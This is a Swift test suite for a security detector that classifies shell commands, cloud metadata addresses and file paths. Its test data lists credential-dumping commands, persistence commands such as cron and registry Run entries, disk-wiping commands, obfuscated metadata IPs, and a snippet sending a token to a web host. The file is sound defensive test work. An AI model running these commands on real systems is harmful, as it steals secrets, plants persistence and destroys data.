import Evidence
import Testing

@testable import Reach

/// What a command line is besides a process: by its words, wherever in the line they stand.
@Suite("Commands")
struct CommandTests {
  private func kinds(_ command: String) -> [String] {
    ImpliedCapabilities.ofCommand(command).map { "\($0.0.rawValue) \($0.1)" }
  }

  @Test(
    "that print a credential are read as one",
    arguments: [
      ("gh auth token", "gh auth token"), ("gh --hostname example.org auth token", "gh auth token"),
      ("/usr/bin/gh auth token -h example.org", "gh auth token"), ("sh -c 'gh auth token | base64'", "gh auth token"),
      ("cd /tmp && sudo -u x gcloud auth print-access-token", "gcloud auth print-access-token"),
      ("aws --profile prod configure get aws_secret_access_key", "aws configure get"),
      ("aws ssm get-parameters-by-path --path /", "aws ssm get-parameter*"),
      ("az account get-access-token --query accessToken -o tsv", "az account get-access-token"),
      ("kubectl -n kube-system get secrets -o json", "kubectl get *secret*"),
      ("kubectl config view --raw", "kubectl config view"),
      ("docker-credential-desktop get", "docker-credential-*"), ("git credential fill", "git credential fill"),
      ("security find-generic-password -wa Chrome", "security find-generic-password"),
      ("op.exe read op://v/i", "op read"),
      ("CMDKEY /LIST", "cmdkey /list*"), ("vault print token", "vault print token"), ("npm token list", "npm token"),
      ("pass show a/b", "pass show"), ("bw list items --session x", "bw list"),
      ("python -m keyring get a b", "keyring get"),
      ("netsh wlan show profile name=x key=clear", "netsh wlan show *profile* key=clear"),
      ("$(gpg2 --armor --export-secret-keys)", "gpg2 --export-secret-key*"),
      ("echo \(String(repeating: " ", count: 400)); gh auth token", "gh auth token"),
    ])
  func credentials(command: String, shown: String) {
    #expect(kinds(command).contains("credential.read \(shown)"), "\(kinds(command))")
  }

  @Test(
    "that use the same programs for something else are not",
    arguments: [
      "gh pr list", "gh auth login", "gcloud auth list", "aws s3 ls", "aws configure list", "az account show",
      "kubectl get pods", "kubectl config current-context", "docker ps", "git commit -m token", "git config user.name",
      "security cms -D", "cmdkey /add:x", "vault status", "npm run token", "npm install", "pass", "bw status",
      "python -m pip install keyring", "netsh wlan show interfaces", "gpg --verify x.asc", "crontab -l",
      "systemctl status ssh", "git config --get core.hooksPath", "rm -rf build dist", "rm -rf /tmp/x", "dd if=a of=b",
      "env X=1 make", "printenv HOME", "cp a b", "cp ~/.bashrc /tmp/copy", "echo x > out.txt", "reg query HKLM",
      "format",
    ])
  func harmless(command: String) { #expect(kinds(command) == []) }

  @Test(
    "that make something run later are found",
    arguments: [
      "(crontab -l; echo '@reboot x') | crontab -", "crontab /tmp/x", "systemctl --user enable --now x.service",
      "launchctl load -w x.plist", "schtasks /create /tn x /tr y /sc onlogon", "sc.exe create x binPath= y",
      "git config --global core.hooksPath /tmp/h", "git config alias.st '!sh'", "echo x >> ~/.bashrc",
      "printf x | tee -a /home/u/.zshrc", "cp x.desktop ~/.config/autostart/", "ln -s /x .git/hooks/pre-commit",
      "copy x.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\\"", "claude mcp add x -- y",
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", "dd if=x of=/etc/cron.d/x",
    ])
  func persistence(command: String) {
    #expect(kinds(command).contains { $0.hasPrefix("persistence.write ") }, "\(kinds(command))")
  }

  @Test(
    "that destroy are found",
    arguments: [
      ("rm -rf ~", "~"), ("rm -rf --no-preserve-root /", "/"), ("rm -fr \"$HOME\"/*", "$home"),
      ("sudo rm -r /home/*", "/home/*"),
      ("rd /s /q C:\\", "c:\\"), ("dd if=/dev/zero of=/dev/sda bs=1M", "dd of=/dev/sd*"),
      ("mkfs.ext4 /dev/sda1", "mkfs.*"),
      ("cat /dev/urandom > /dev/nvme0n1", "/dev/nvme0n1"),
      ("vssadmin delete shadows /all /quiet", "vssadmin delete shadows"),
    ])
  func destruction(command: String, target: String) {
    #expect(kinds(command).contains("file.delete \(target)"), "\(kinds(command))")
  }

  @Test(
    "that print every variable read the environment",
    arguments: ["env", "printenv", "sh -c env", "export -p", "env | sort"])
  func environment(command: String) { #expect(kinds(command) == ["env.read *"]) }

  @Test("are read in bounded time", arguments: ["security ", "aws -x ", "git config ", ">", "rm ~ ", "("])
  func hostile(part: String) { _ = kinds(String(repeating: part, count: 100_000)) }

  @Test("lead what they print to where it is sent")
  func flow() {
    let reached = followModule(
      "import subprocess, urllib.request\nt = subprocess.check_output(['gh', 'auth', 'token'])\n"
        + "urllib.request.urlopen('http://example.org/', data=t)")
    #expect(reached.flowKinds.contains("credential.read → network.connect"))
  }
}

@Suite("Metadata addresses")
struct MetadataAddressTests {
  @Test(
    "are known by name and by number, however it is written",
    arguments: [
      "http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://0xA9FEA9FE/latest", "169.254.43518",
      "http://0251.0376.0251.0376/", "http://metadata.google.internal/computeMetadata/v1/", "http://[fd00:ec2::254]/",
      "http://example.org/ | http://169.254.169.254/", "http://169.254.170.2/v2/credentials", "0xa9.254.0xa9.254",
    ])
  func known(address: String) { #expect(MetadataAddresses.contain(address)) }

  @Test(
    "are no others",
    arguments: [
      "http://127.0.0.1/", "http://example.org/169", "http://169.254.1.1/", "http://2852039167/", "http://0x7f000001/",
      "http://example.org/latest/meta-data", "", "....", "0x", "99999999999999999999999999", "1.2.3.4.5.6.7.8",
    ])
  func unknown(address: String) { #expect(!MetadataAddresses.contain(address)) }
}

@Suite("Places")
struct PlaceTests {
  @Test(
    "that run what is written there are known",
    arguments: [
      "~/.zshenv", "/home/u/.config/fish/conf.d/x.fish", "C:\\Users\\u\\.claude\\settings.json",
      ".claude/settings.local.json",
      "project/CLAUDE.md", "AGENTS.md", ".cursor/rules/x.mdc", ".github/copilot-instructions.md", ".vscode/tasks.json",
      ".mcp.json", "~/Library/LaunchAgents/x.plist", "~/.ipython/profile_default/startup/00.py", "/etc/sudoers.d/x",
      "~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat", "~/.config/git/config", "~/.gdbinit",
      "software\\microsoft\\windows\\currentversion\\runonce\\x", ".husky/pre-commit", "/etc/udev/rules.d/9.rules",
      "usercustomize.py", "lib/python3/site-packages/x.start", "~/.config/autostart/x.desktop", ".gitlab-ci.yml",
    ])
  func startup(path: String) { #expect(PersistenceCatalogue.isStartup(path: path)) }

  @Test(
    "that run nothing are not",
    arguments: [
      "~/.cache/pip/x", "build/lib/x.py", "/tmp/bashrc", "docs/settings.json", "my-agents.md", "README.md", "profile",
      "x.pth.txt", "/etc/hostname", "tasks.json", "/var/log/cron.log", "~/.local/share/x/state.json", "",
    ])
  func ordinary(path: String) { #expect(!PersistenceCatalogue.isStartup(path: path)) }

  @Test(
    "that nobody deletes as a whole",
    arguments: ["~", "~/", "/", "/*", "/home/", "/etc/.", "C:\\", "c:/Users/*", "~/Documents"])
  func whole(path: String) { #expect(Destruction.isWhole(path)) }

  @Test(
    "that are deleted every day",
    arguments: ["", "build", "~/.cache", "/tmp", "./", "/home/u/x", "/etc/x.conf", "C:\\x"])
  func part(path: String) { #expect(!Destruction.isWhole(path)) }
}
